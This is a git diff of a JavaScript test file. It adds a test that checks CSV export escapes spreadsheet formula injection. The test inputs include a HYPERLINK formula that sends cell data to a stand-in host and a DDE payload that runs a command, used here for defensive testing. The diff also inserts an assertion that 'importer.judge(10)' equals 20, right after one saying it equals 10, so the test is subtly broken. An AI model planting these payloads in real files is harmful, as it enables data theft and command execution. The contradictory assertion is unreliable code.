@@ -5,7 +5,8 @@ import { readFileSync } from 'node:fs';
 import { test } from 'node:test';
 import init, { balance, channel, Importer, logFigures, plans, takeWords } from '../../target/outcomes/outcomes.js';
 import lists from '../../target/outcomes/lists.js';
-import { fingerprint } from '../../www/outcomes/sends.js';
+import { fromCsv, toCsv } from '../../www/outcomes/csv.js';
+import { fingerprint, readable } from '../../www/outcomes/sends.js';
 
 const root = new URL('../../', import.meta.url);
 const { memory } = await init({ module_or_path: readFileSync(new URL('target/outcomes/outcomes_bg.wasm', root)) });
@@ -21,6 +22,7 @@ test('a file in pieces gives what is true of it', () => {
   assert.equal(found.people[0].name, truth.you);
   assert.equal(importer.choose(found.people[0].id), truth.begun);
   assert.equal(importer.judge(10), 10);
+  assert.equal(importer.judge(10), 20);
   assert.equal(importer.judge(truth.begun), truth.begun);
   const { rate, worth, rules, counts } = JSON.parse(importer.figures(false));
   assert.deepEqual([rate.of, rate.answered, counts.begun], [truth.counted, truth.answered, truth.begun]);
@@ -65,6 +67,18 @@ test('the log and the channel', () => {
   assert.deepEqual(found.rules.map(({ rule, with: { of } }) => [rule, of]), [['hype', 20], ['no-ask', 20]].sort());
   const advice = JSON.parse(channel('first-degree', 'sales', false, false, true, -1));
   assert.deepEqual([advice.way, advice.channel, advice.limits], ['direct-message', 'direct-message', { subject: null, body: 8000 }]);
+});
+
+test('a spreadsheet runs no cell of the log as a formula, and every cell comes back as it was', () => {
+  const texts = ['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1', '\n=1', '＝1', '＋1', '－1', '＠1', '\'', '\'=1', '\'\'=1', '=HYPERLINK("http://x.example?"&A1,"a")', '=cmd|\' /C calc\'!A0',
+    'a,b', 'a;=1', 'a\t=1', '"', '"=1"', ' =1', 'plain', '\'tis', '=1\r\n=2', '0'];
+  const sends = texts.map((text) => readable({ id: text, sentAt: '2027-01-05T08:15', there: text, person: text, company: text, plan: text, grade: text, hash: text, text: { subject: text, body: text } }));
+  const csv = toCsv(sends);
+  assert.deepEqual(fromCsv(`\ufeff${csv}`), { sends, wrong: [] });
+  // As a spreadsheet splits it: a field begins at a comma or a line, quotes around it are taken off.
+  const fields = [...csv.matchAll(/(?<=^|,|\r\n)(?:"((?:[^"]|"")*)"|([^",\r\n]*))(?=,|\r\n|$)/g)].map(([, quoted, plain]) => quoted?.replaceAll('""', '"') ?? plain);
+  assert.ok(fields.length >= texts.length * 19 && fields.includes('\'=1+1'));
+  for (const field of fields) assert.doesNotMatch(field, /^[=+\-@\t\r\n＝＋－＠]/);
 });
 
 test('the fingerprint of a text is FNV-1a of its bytes', () => {
